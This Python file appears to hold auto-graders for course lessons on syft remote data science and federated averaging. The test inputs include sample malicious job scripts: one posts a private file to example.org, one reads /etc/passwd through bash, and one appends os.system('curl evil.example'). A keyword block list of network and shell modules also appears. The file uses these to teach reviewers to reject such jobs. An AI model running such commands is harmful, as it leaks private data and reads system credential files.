"""Checkers for lessons 09–11: remote data science with syft, FedAvg, FL with syft.

Most answers are functions; each checker calls the learner's function on its own inputs (fresh
temporary folders, random state dicts), compares with a reference computed here and names those
inputs in every ✗ message, so the learner can reproduce the failing case.
"""

from __future__ import annotations

import json
import tempfile
from pathlib import Path
from typing import Any

import torch

from course_lib.exercises._registry import (
    Incorrect,
    exercise,
    expect,
    expect_callable,
    expect_close,
    expect_not_none,
)

# -- lesson 09: remote data science with syft --------------------------------------------------

_LEAK_FOLDERS = (
    "the checker's folders: private/ holds patients.csv and sub/scans.bin; scientist/ holds "
    "patients.csv (same name, mock values), result.json and deep/er/copy.dat (a renamed copy of "
    "scans.bin)"
)


def _relative(paths: list[Path], root: Path) -> list[str]:
    """``paths`` as the learner would write them: relative to ``root`` where they are under it."""
    return [str(p.relative_to(root)) if p.is_relative_to(root) else str(p) for p in paths]


@exercise(
    "09.find_leaks",
    task="write find_leaks(scientist_folder, private_folder): the files under scientist_folder "
    "(sub-folders included) whose contents equal a file under private_folder",
    nudge="two files are the same when their bytes are, whatever their names; a hash of the "
    "bytes is easy to compare, and the files may sit in sub-folders",
    hint="hash every file's bytes (hashlib.sha256(p.read_bytes()).hexdigest()) in both folders "
    "and return the scientist's files whose hash is a private file's hash; compare contents, "
    "not names, and walk sub-folders with Path.rglob('*').",
)
def _(find_leaks) -> None:
    expect_callable(find_leaks, "find_leaks", "09.find_leaks")
    with tempfile.TemporaryDirectory() as tmp:
        private, scientist = Path(tmp, "private"), Path(tmp, "scientist")
        (private / "sub").mkdir(parents=True)
        (scientist / "deep" / "er").mkdir(parents=True)
        (private / "patients.csv").write_text("id,age\n1,54\n2,61\n")
        (private / "sub" / "scans.bin").write_bytes(bytes(range(256)))
        (scientist / "patients.csv").write_text("id,age\n1,0\n2,0\n")  # same name, mock values
        (scientist / "result.json").write_text("57.5")
        (scientist / "deep" / "er" / "copy.dat").write_bytes(bytes(range(256)))  # renamed leak
        leaks = find_leaks(scientist, private)
        expect_not_none(leaks, f"find_leaks(scientist, private) on {_LEAK_FOLDERS}")
        try:
            found = sorted(Path(p).resolve() for p in leaks)
        except TypeError as error:
            raise Incorrect("return a list of paths") from error
        root = scientist.resolve()
        expected = [(scientist / "deep" / "er" / "copy.dat").resolve()]
        expect(
            (scientist / "patients.csv").resolve() not in found,
            "patients.csv in the scientist's folder has the same NAME as a private file but "
            f"different contents (it is the mock): it is not a leak ({_LEAK_FOLDERS})",
        )
        expect(
            found == expected,
            f"find_leaks(scientist, private) on {_LEAK_FOLDERS} returned "
            f"{_relative(found, root)}, expected exactly the renamed copy "
            f"{_relative(expected, root)}",
        )


_RED_FLAG_SCRIPTS = {
    "sends the data over the network": "import requests\n"
    "import syft as sy\n(p,) = sy.resolve_dataset_files_path('scans')\n"
    "requests.post('https://example.org', data=open(p, 'rb'))\n",
    "copies the private file into outputs/": "import shutil\n"
    "import syft as sy\n(p,) = sy.resolve_dataset_files_path('scans')\n"
    "shutil.copy(p, 'outputs/')\n",
    "runs shell commands": "import subprocess\nsubprocess.run(['bash', '-c', 'cat /etc/passwd'])\n",
    "opens a socket": "import socket\ns = socket.create_connection(('example.org', 80))\n",
}
_HARMLESS_SCRIPT = (
    "import json\nfrom pathlib import Path\n\nimport syft as sy\n\n"
    "(p,) = sy.resolve_dataset_files_path('ages')\n"
    "ages = [int(line) for line in Path(p).read_text().split()]\n"
    "Path('outputs').mkdir(exist_ok=True)\n"
    "Path('outputs/mean.json').write_text(json.dumps(sum(ages) / len(ages)))\n"
)


def _indented(code: str) -> str:
    return "".join(f"\n      {line}" for line in code.splitlines())


@exercise(
    "09.review_job",
    task="write should_approve(code) -> bool: reject code that mentions network access, shell "
    "access or copying files, approve the rest",
    nudge="which modules and calls let a script send data away, run commands or copy files? "
    "Look for their names in the code's text",
    hint="look for red-flag words in the code: network modules (requests, socket, urllib), "
    "shell access (subprocess, os.system) and copying files (shutil); approve otherwise",
)
def _(should_approve) -> None:
    expect_callable(should_approve, "should_approve", "09.review_job")
    verdict = should_approve(_HARMLESS_SCRIPT)
    expect_not_none(verdict, "should_approve(code)")
    expect(
        verdict is True,
        "the script that only writes the mean age to outputs/ should be approved; "
        f"should_approve(code) is {verdict!r} for code ={_indented(_HARMLESS_SCRIPT)}",
    )
    for why, script in _RED_FLAG_SCRIPTS.items():
        verdict = should_approve(script)
        expect(
            verdict is False,
            f"a script that {why} must be rejected; should_approve(code) is {verdict!r} for "
            f"code ={_indented(script)}",
        )


# -- lesson 10: federated averaging -------------------------------------------------------------


def _random_states(k: int, seed: int) -> list[dict[str, torch.Tensor]]:
    g = torch.Generator().manual_seed(seed)
    return [
        {"layer.weight": torch.randn(3, 4, generator=g), "layer.bias": torch.randn(3, generator=g)}
        for _ in range(k)
    ]


@exercise(
    "10.fedavg",
    task="write my_fedavg(states, weights): the average of the clients' state dicts, each "
    "weighted by its sample count",
    nudge="average each parameter name separately; a client with more samples should count more",
    hint="for each parameter name: sum(w_k * state_k[name]) / sum(w_k) — weights are the "
    "clients' sample counts, so bigger clients count more",
)
def _(my_fedavg) -> None:
    from course_lib.fl.fedavg import fedavg

    expect_callable(my_fedavg, "my_fedavg", "10.fedavg")
    for seed, weights in [(0, [1, 1]), (1, [100, 300, 600]), (2, [5])]:
        states = _random_states(len(weights), seed)
        inputs = (
            f"my_fedavg(states, {weights}) on {len(weights)} random state dicts "
            "(layer.weight 3×4, layer.bias 3)"
        )
        got = my_fedavg(states, weights)
        expect_not_none(got, inputs)
        expect(isinstance(got, dict), f"return a dict of tensors, got {type(got).__name__}")
        want = fedavg(states, weights)
        expect(
            set(got) == set(want),
            f"{inputs}: expected parameters {sorted(want)}, got {sorted(got)}",
        )
        for name in want:
            expect_close(got[name], want[name], rtol=1e-5, atol=1e-6, what=f"{inputs}[{name!r}]")


def _as_number(index: Any) -> Any:
    """An index as a plain Python number, unchanged in value (no rounding: ``2.5`` stays 2.5)."""
    return index.item() if hasattr(index, "item") else index


@exercise(
    "10.iid_split",
    task="write my_iid_split(n, num_clients, seed): num_clients index tensors that together hold "
    "every index 0..n-1 once, shuffled with seed, sizes differing by at most one",
    nudge="shuffle the indices 0..n-1 with a seeded generator first, then cut them into "
    "num_clients nearly equal pieces",
    hint="torch.randperm(n, generator=torch.Generator().manual_seed(seed)) shuffles the indices; "
    "torch.tensor_split(perm, num_clients) deals them into near-equal parts",
)
def _(my_iid_split) -> None:
    expect_callable(my_iid_split, "my_iid_split", "10.iid_split")
    for n, clients in [(10, 3), (100, 7), (5, 5)]:
        call = f"my_iid_split({n}, {clients}, seed=0)"
        parts = my_iid_split(n, clients, seed=0)
        expect_not_none(parts, call)
        expect(
            len(parts) == clients,
            f"{call}: {clients} clients need {clients} parts, got {len(parts)}",
        )
        merged = sorted(_as_number(i) for p in parts for i in p)
        expect(
            merged == list(range(n)),
            f"{call}: with n={n} every index 0..{n - 1} must appear in exactly one part",
        )
        sizes = [len(p) for p in parts]
        expect(max(sizes) - min(sizes) <= 1, f"{call}: sizes {sizes} should differ by at most 1")
    a, b = my_iid_split(100, 4, seed=0), my_iid_split(100, 4, seed=1)
    expect(
        any(
            sorted(map(_as_number, x)) != sorted(map(_as_number, y))
            for x, y in zip(a, b, strict=True)
        ),
        "my_iid_split(100, 4, seed=0) and seed=1 give the same parts: different seeds should "
        "give different splits (shuffle the indices)",
    )
    expect(
        sorted(map(_as_number, my_iid_split(100, 4, seed=0)[0])) != list(range(25)),
        "my_iid_split(100, 4, seed=0): the first client got indices 0..24 in order: shuffle "
        "before splitting",
    )


_PROXIMAL_INPUTS = "for model = nn.Linear(4, 3) and start_state = its parameters + 0.5"


@exercise(
    "10.proximal_term",
    task="write proximal_term(model, start_state, mu): mu/2 times the sum over parameters of "
    "‖p − p_start‖², as a tensor gradients can flow through",
    nudge="model.named_parameters() gives each parameter with the name to look up in "
    "start_state; compute with tensors all the way so autograd sees it",
    hint="mu / 2 * sum over parameters of ((p - start[name]) ** 2).sum(), with p from "
    "model.named_parameters(); keep it a tensor so it can be back-propagated",
)
def _(proximal_term) -> None:
    expect_callable(proximal_term, "proximal_term", "10.proximal_term")
    torch.manual_seed(0)
    model = torch.nn.Linear(4, 3)
    start = {k: v.detach().clone() + 0.5 for k, v in model.state_dict().items()}
    got = proximal_term(model, start, 0.2)
    expect_not_none(got, f"proximal_term(model, start_state, 0.2) {_PROXIMAL_INPUTS}")
    expect(isinstance(got, torch.Tensor), "return a tensor (so the term has a gradient)")
    want = 0.1 * sum(((p - start[n]) ** 2).sum() for n, p in model.named_parameters())
    expect_close(
        got, want.detach(), what=f"proximal_term(model, start_state, 0.2) {_PROXIMAL_INPUTS}"
    )
    expect(
        got.requires_grad,
        "the term must depend on the model's parameters (requires_grad): "
        f"proximal_term(model, start_state, 0.2) {_PROXIMAL_INPUTS} has no gradient",
    )
    expect_close(
        proximal_term(model, start, 0.0),
        0.0,
        what=f"the term with mu = 0, proximal_term(model, start_state, 0.0) {_PROXIMAL_INPUTS}",
    )


# -- lesson 11: federated learning with syft ----------------------------------------------------


@exercise(
    "11.aggregate_outputs",
    task="write aggregate_outputs(outputs): read every hospital's model.b64 weights and "
    "num_samples.json count and return their FedAvg",
    nudge="each value of outputs maps a file name to a path: decode the weights with "
    "sb.decode_state, read the count with json.loads, then average as in lesson 10",
    hint="for each owner read num_samples.json (json.loads) and decode_state(model.b64 text); "
    "then return fedavg(states, sample_counts)",
)
def _(aggregate_outputs) -> None:
    from course_lib.fl.fedavg import fedavg
    from course_lib.fl.syft_bridge import encode_state

    expect_callable(aggregate_outputs, "aggregate_outputs", "11.aggregate_outputs")
    states, counts = _random_states(3, 7), [120, 30, 850]
    inputs = (
        f"aggregate_outputs(outputs) for 3 hospitals with {counts} samples and random weights "
        "(layer.weight 3×4, layer.bias 3)"
    )
    with tempfile.TemporaryDirectory() as tmp:
        outputs = {}
        for k, (state, count) in enumerate(zip(states, counts, strict=True)):
            folder = Path(tmp, f"owner{k}")
            folder.mkdir()
            (folder / "model.b64").write_text(encode_state(state))
            (folder / "num_samples.json").write_text(json.dumps(count))
            outputs[f"hospital{k + 1}@health.example"] = {
                "model.b64": folder / "model.b64",
                "num_samples.json": folder / "num_samples.json",
            }
        got = aggregate_outputs(outputs)
    want = fedavg(states, counts)
    expect_not_none(got, inputs)
    expect(isinstance(got, dict), f"return a state dict, got {type(got).__name__}")
    for name in want:
        expect(name in got, f"the result is missing {name!r} ({inputs})")
        expect_close(got[name], want[name], rtol=1e-5, what=f"{inputs}[{name!r}]")


@exercise(
    "11.same_code",
    task="write same_code(a, b) -> bool: True when the two scripts have equal lists of non-empty "
    "lines (indentation and every other character count)",
    nudge="split each script into lines and leave out the blank ones before comparing",
    hint="compare the lists of non-empty lines: [line for line in code.splitlines() if "
    "line.strip()] — that is syft-rds' own rule for auto-approval",
)
def _(same_code) -> None:
    expect_callable(same_code, "same_code", "11.same_code")
    script = "import syft as sy\n\nx = 1\nprint(x)\n"
    on = f"(script = {script!r})"
    verdict = same_code(script, script)
    expect_not_none(verdict, f"same_code(script, script) {on}")
    expect(verdict is True, f"identical code must match: same_code(script, script) {on}")
    spaced = script.replace("\n\n", "\n\n\n\n") + "\n\n"
    expect(
        same_code(script, spaced) is True,
        f"extra blank lines do not change what runs: they should match (same_code(script, "
        f"{spaced!r}) {on})",
    )
    expect(
        same_code(script, script.replace("x = 1", "x = 2")) is False,
        f"a changed line must not match (same_code(script, script with x = 2) {on})",
    )
    expect(
        same_code(script, script + "import os; os.system('curl evil.example')\n") is False,
        "an extra line at the end must not match (same_code(script, script + "
        f"\"import os; os.system('curl evil.example')\\n\") {on})",
    )
    expect(
        same_code(script, script.replace("print(x)", "  print(x)")) is False,
        "indentation matters in Python: a re-indented line must not match "
        f"(same_code(script, script with '  print(x)') {on})",
    )
